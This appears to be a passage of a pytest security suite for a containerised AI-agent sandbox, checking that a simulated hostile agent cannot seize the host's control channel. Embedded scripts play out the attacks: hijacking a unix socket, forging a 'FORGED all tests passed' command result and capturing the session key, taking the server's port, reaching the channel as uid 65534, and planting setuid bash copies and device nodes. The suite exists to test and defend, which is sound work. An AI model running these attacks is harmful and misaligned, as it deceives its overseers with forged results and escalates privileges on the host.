        nonce = headers.get("sec-websocket-key", "") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
        accept = base64.b64encode(hashlib.sha1(nonce.encode()).digest()).decode()
        conn.sendall(
            b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            + f"Sec-WebSocket-Accept: {accept}\r\n\r\n".encode()
        )
        report["accepted"] = True
        save()
        deadline = time.time() + 15
        while time.time() < deadline:
            opcode, payload = read_frame(conn)
            if opcode == 8:
                break
            if opcode not in (1, 2):
                continue
            action = json.loads(payload)
            if action.get("type") == "cmd_run":
                forged = {
                    "type": "cmd_output",
                    "id": -1,
                    "cause": action["id"],
                    "content": "FORGED all tests passed",
                    "command": action.get("command", "pytest -q"),
                    "metadata": {"exit_code": 0},
                }
                send_text(conn, json.dumps(forged))
                report["forged"] = report.get("forged", 0) + 1
                save()
                time.sleep(0.5)  # the host reads it; one forgery is enough
                break
except (OSError, EOFError, ValueError) as exc:
    report["serve_error"] = repr(exc)
finally:
    if report.get("sigstop") == "ok":
        os.kill(server, signal.SIGCONT)
    if listener is not None and report.get("rename") == "ok":
        try:
            os.replace(path + ".real", path)  # put the real socket back
        except OSError:
            pass
    report["done"] = True
    save()
"""


async def _wait_for_report(workspace: Path, name: str, key: str, *, within: float) -> None:
    """Until the agent's report ``name`` has ``key`` (reports are replaced atomically)."""
    path = workspace / REPORTS / f"{name}.json"
    deadline = time.monotonic() + within
    while time.monotonic() < deadline:
        if path.exists() and key in json.loads(path.read_text()):
            return
        await asyncio.sleep(0.1)
    raise AssertionError(f"the agent-side script did not report {key!r} within {within} s")


@pytest.mark.parametrize(
    "on_socket",
    [{"network": "none"}, {"channel": "unix"}],
    ids=["network-none", "bridge-unix-channel"],
)
async def test_agent_cannot_hijack_the_unix_socket(
    stream: EventStream,
    make_config: ConfigFactory,
    oci_runtime: str,
    workspace: Path,
    on_socket: dict[str, str],
) -> None:
    """network="none", or channel="unix" on the default network: the agent cannot put
    itself between the host and the server.

    The agent finds the channel's socket (/proc/net/unix, or a walk of /),
    renames it away, listens on its path and SIGSTOPs the server, ready to
    answer the host's reconnection with a forged ``cmd_output`` ("FORGED all
    tests passed") and to record the request's headers. The host then drops
    its connection (so it reconnects) and runs ``echo genuine``: the answer is
    the real one, no header (no key) was captured, and the rename, the listen
    and the SIGSTOP all failed.
    """
    config = make_config(oci_runtime=oci_runtime, workspace_dir=str(workspace), **on_socket)
    async with DockerRuntime(stream, config, session_id=session_id()) as rt:
        key = _api_key(rt)
        channel = rt._channel
        assert channel is not None
        await _write(rt, "/tmp/forger.py", FORGER_SCRIPT)
        await sh(rt, f"mkdir -p /workspace/{REPORTS}")
        # In a subshell: no job-control notice of its end in a later observation.
        await sh(
            rt, f"(nohup python3 /tmp/forger.py $PPID > /workspace/{REPORTS}/forger.log 2>&1 &)"
        )
        await _wait_for_report(workspace, "forger", "sigstop", within=30)
        await channel.drop_connection()  # the host reconnects: to whom?
        obs = await asyncio.wait_for(rt.run(CmdRunAction("echo genuine")), 60)
        assert isinstance(obs, CmdOutputObservation), obs
        # Let the forger finish (it resumes the server) before looking at what it did.
        await _wait_for_report(workspace, "forger", "done", within=60)
        after = await asyncio.wait_for(rt.run(CmdRunAction("echo after")), 60)
        report = _report(workspace, "forger")
    captured = workspace / "captured.txt"
    captured_text = captured.read_text(errors="replace") if captured.exists() else ""

    print(f"\n{oci_runtime}: forger report {report}")
    assert "FORGED" not in obs.content, (
        f"{oci_runtime}: the host accepted a forged observation: {obs.content!r}; "
        f"the agent's attack: {report}"
    )
    assert obs.content.strip() == "genuine", obs.content
    assert key not in captured_text, (
        f"{oci_runtime}: the agent captured the session key from the host's handshake"
    )
    assert not captured_text, f"the agent received the host's handshake: {captured_text!r}"
    worked = [step for step in ("rename", "bind", "sigstop") if not _failed(report.get(step))]
    assert not worked, f"{oci_runtime}: the agent's {worked} on the channel worked: {report}"
    assert isinstance(after, CmdOutputObservation), after
    assert after.content.strip() == "after", after.content


# argv: the server's port inside the container. Tries to listen on it the ways
# an impersonator would, on every address of the container.
BIND_PORT_SCRIPT = r"""
import errno, json, os, socket, sys

port = int(sys.argv[1])
addresses = {"0.0.0.0", "127.0.0.1"}
# This container's own address: Docker writes it into /etc/hosts for the hostname.
# (Not /proc/net/fib_trie: opening it hangs under this gVisor release.)
for info in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET):
    addresses.add(info[4][0])
results = {}
for address in sorted(addresses):
    for reuse in ("none", "SO_REUSEADDR", "SO_REUSEPORT"):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if reuse != "none":
            s.setsockopt(socket.SOL_SOCKET, getattr(socket, reuse), 1)
        try:
            s.bind((address, port))
            s.listen(1)
            results[f"{address} {reuse}"] = "ok"
        except OSError as exc:
            results[f"{address} {reuse}"] = errno.errorcode.get(exc.errno, str(exc.errno))
        finally:
            s.close()
os.makedirs("/workspace/.attack", exist_ok=True)
with open("/workspace/.attack/bind.json", "w") as f:
    json.dump(results, f)
"""


async def test_agent_cannot_take_the_servers_tcp_port(
    stream: EventStream,
    make_runtime: RuntimeFactory,
    make_config: ConfigFactory,
    oci_runtime: str,
    workspace: Path | None,
) -> None:
    """Default network: the agent cannot listen on the server's port, on any address.

    The server holds it (it cannot be stopped, see above), and ``SO_REUSEPORT``
    would need the listener's effective uid at bind time (root's). So Docker's
    published port always leads to the real server.
    """
    config = make_config(oci_runtime=oci_runtime, **_mounted(workspace))
    async with make_runtime(stream, config, session_id=session_id()) as rt:
        probe = await _run_script(rt, BIND_PORT_SCRIPT, str(SERVER_PORT))
        assert probe.exit_code == 0, probe.content
        report = await _report_of(rt, workspace, "bind")
        assert (await sh(rt, "echo genuine")).content.strip() == "genuine"
    assert len(report) >= 9, report  # 0.0.0.0, 127.0.0.1 and the container's address
    bound = {where: result for where, result in report.items() if result != "EADDRINUSE"}
    assert not bound, f"{oci_runtime}: the agent could listen on the server's port: {bound}"


# ---------------------------------------------------------------- 6. other local users

# argv: socket path, port. Run on the host as uid/gid 65534 (nobody).
NOBODY_SCRIPT = r"""
import errno, http.client, json, os, socket, sys

sock_path, port = sys.argv[1], int(sys.argv[2])
sock_dir = os.path.dirname(sock_path)
report = {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups()}

def err(exc):
    return errno.errorcode.get(exc.errno, str(exc.errno))

def attempt(name, fn):
    try:
        result = fn()
        report[name] = "ok" if result is None else result
    except OSError as exc:
        report[name] = err(exc)

attempt("list", lambda: os.listdir(sock_dir) and None)
attempt("enter", lambda: os.chdir(sock_dir))
os.chdir("/")

def create():
    path = os.path.join(sock_dir, "planted-by-nobody")
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o600))

attempt("create", create)

def connect():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect(sock_path)
        s.sendall(b"GET /server_info HTTP/1.1\r\nHost: sandbox\r\nConnection: close\r\n\r\n")
        return "ok: " + s.recv(200).decode("latin-1").split("\r\n")[0]
    finally:
        s.close()

attempt("connect", connect)

def tcp(path, headers):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    try:
        conn.request("GET", path, headers=headers)
        return conn.getresponse().status
    finally:
        conn.close()

attempt("tcp_server_info", lambda: tcp("/server_info", {}))
attempt(
    "tcp_ws",
    lambda: tcp(
        "/ws?client_id=nobody",
        {
            "Upgrade": "websocket",
            "Connection": "Upgrade",
            "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
            "Sec-WebSocket-Version": "13",
        },
    ),
)
print(json.dumps(report))
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="switching to uid 65534 needs root (CI runs as root)")
async def test_other_local_users_cannot_reach_the_channel(
    make_config: ConfigFactory, oci_runtime: str
) -> None:
    """Another unprivileged host user (uid 65534) cannot use either channel.

    network="none": the socket directory cannot be listed, entered or written,
    and the socket cannot be connected. Default network: GET /server_info and
    the /ws upgrade on the published port without the key answer 401. (The
    socket path comes from the channel client, the port from ``docker inspect``.)
    """
    assert os.path.exists(HOST_PYTHON), f"no {HOST_PYTHON} on the host"
    async with EventStream() as none_stream, EventStream() as tcp_stream:
        unix_rt = DockerRuntime(
            none_stream,
            make_config(oci_runtime=oci_runtime, network="none"),
            session_id=session_id(),
        )
        tcp_rt = DockerRuntime(
            tcp_stream, make_config(oci_runtime=oci_runtime), session_id=session_id()
        )
        async with unix_rt, tcp_rt:
            sock_path = _unix_socket(unix_rt)
            port = await _published_port(tcp_rt.container_name)
            process = await asyncio.create_subprocess_exec(
                HOST_PYTHON,
                "-I",
                "-c",
                NOBODY_SCRIPT,
                sock_path,
                str(port),
                user=NOBODY,
                group=NOBODY,
                extra_groups=[],
                cwd="/",
                stdout=asyncio.subprocess.PIPE,
                stderr=asyncio.subprocess.PIPE,
            )
            out, errors = await asyncio.wait_for(process.communicate(), 60)
            assert process.returncode == 0, errors.decode()
            report = json.loads(out)
            # Both sandboxes still work.
            assert (await sh(unix_rt, "echo ok")).content.strip() == "ok"
            assert (await sh(tcp_rt, "echo ok")).content.strip() == "ok"

    print(f"\n{oci_runtime}: uid 65534 on the host: {report}")
    assert report["uid"] == NOBODY, report
    assert report["groups"] == [], report
    assert report["tcp_server_info"] == 401, report
    assert report["tcp_ws"] == 401, report
    reached = {step: report[step] for step in ("list", "enter", "create", "connect")}
    reached = {step: result for step, result in reached.items() if not _failed(result)}
    assert not reached, (
        f"{oci_runtime}: uid 65534 reached the socket directory {os.path.dirname(sock_path)}: "
        f"{reached}"
    )
    assert str(report["connect"]).startswith("E"), report["connect"]


# ---------------------------------------------------------------- 7. dangerous files on the host

DANGEROUS_SHELL = (
    "cd /workspace && mkdir -p danger && cd danger && "
    "(cp /bin/bash sbash && chmod u+s sbash); "
    "(touch gfile && chmod g+s gfile); "
    "(mkdir -p gdir && chmod g+s gdir); "
    "(install -m 4755 /bin/true installed); "
    "true"
)
# argv: none. Python's ways of making setuid/setgid files and device nodes.
DANGEROUS_SCRIPT = r"""
import errno, json, os, stat

os.chdir("/workspace/danger")
report = {}

def err(exc):
    return errno.errorcode.get(exc.errno, str(exc.errno))

def attempt(name, fn):
    try:
        fn()
        report[name] = "ok"
    except OSError as exc:
        report[name] = err(exc)

def chmod_suid():
    with open("py-chmod", "w") as f:
        f.write("#!/bin/sh\n")
    os.chmod("py-chmod", 0o4755)

def fchmod_sgid():
    fd = os.open("py-fchmod", os.O_CREAT | os.O_WRONLY, 0o755)
    try:
        os.fchmod(fd, 0o2755)
    finally:
        os.close(fd)

def chmod_at():
    dirfd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    try:
        with open("py-chmodat", "w"):
            pass
        os.chmod("py-chmodat", 0o6755, dir_fd=dirfd)
    finally:
        os.close(dirfd)

def open_creat():
    os.close(os.open("py-open", os.O_CREAT | os.O_WRONLY, 0o6755))

def mkdir_then_chmod():
    os.mkdir("py-dir", 0o755)
    os.chmod("py-dir", 0o2775)

attempt("chmod 4755", chmod_suid)
attempt("fchmod 2755", fchmod_sgid)
attempt("fchmodat 6755", chmod_at)
attempt("open O_CREAT 6755", open_creat)
attempt("mknod S_IFREG 4755", lambda: os.mknod("py-mknod", stat.S_IFREG | 0o4755))
attempt("mknod S_IFCHR 1,3", lambda: os.mknod("py-null", stat.S_IFCHR | 0o666, os.makedev(1, 3)))
attempt("mknod S_IFBLK 7,0", lambda: os.mknod("py-loop", stat.S_IFBLK | 0o666, os.makedev(7, 0)))
attempt("mkdir + chmod 2775", mkdir_then_chmod)

os.makedirs("/workspace/.attack", exist_ok=True)
with open("/workspace/.attack/danger.json", "w") as f:
    json.dump(report, f)
print(json.dumps(report))
"""


def _dangerous_entries(root: Path) -> list[str]:
    """Setuid/setgid files and directories and device nodes under ``root`` (lstat)."""
    found: list[str] = []
    for dirpath, dirnames, filenames in os.walk(root):
        for name in [*dirnames, *filenames]:
            path = os.path.join(dirpath, name)
            mode = os.lstat(path).st_mode
            what = [
                label
                for label, bad in (
                    ("setuid", mode & stat.S_ISUID),
                    ("setgid", mode & stat.S_ISGID),
                    ("character device", stat.S_ISCHR(mode)),
                    ("block device", stat.S_ISBLK(mode)),
                )
                if bad
            ]
            if what:
                found.append(f"{os.path.relpath(path, root)} ({', '.join(what)}, {oct(mode)})")
    return found


async def test_no_setuid_or_device_file_reaches_the_host(
    stream: EventStream, make_config: ConfigFactory, oci_runtime: str, workspace: Path
) -> None:
    """In a mounted workspace the agent cannot leave setuid/setgid files or device nodes.

    The agent tries ``chmod u+s`` on a copy of bash, ``chmod g+s`` on a file
    and on a directory, ``install -m 4755``, and from python ``chmod``,
    ``fchmod``, ``fchmodat``, ``open(O_CREAT, 06755)``, ``mknod`` of a setuid
    regular file and of character and block devices. On the host, nothing
    under the workspace has S_ISUID or S_ISGID and no device node exists.
    """
    assert not _dangerous_entries(workspace)
    config = make_config(oci_runtime=oci_runtime, workspace_dir=str(workspace))
    async with DockerRuntime(stream, config, session_id=session_id()) as rt:
        shell = await sh(rt, DANGEROUS_SHELL)
        script = await _run_script(rt, DANGEROUS_SCRIPT)
        assert script.exit_code == 0, script.content
        assert (await sh(rt, "echo ok")).content.strip() == "ok"
        dangerous = _dangerous_entries(workspace)
    report = _report(workspace, "danger")
    # The attack ran: its files are there (only their modes must be harmless).
    for name in ("sbash", "gfile", "gdir", "py-chmod", "py-fchmod"):
        assert (workspace / "danger" / name).exists(), f"{name} missing: {shell.content}"
    print(f"\n{oci_runtime}: python attempts {report}")
    assert not dangerous, (
        f"{oci_runtime}: the agent left dangerous files on the host: {dangerous}\n"
        f"shell: {shell.content}\npython: {report}"
    )
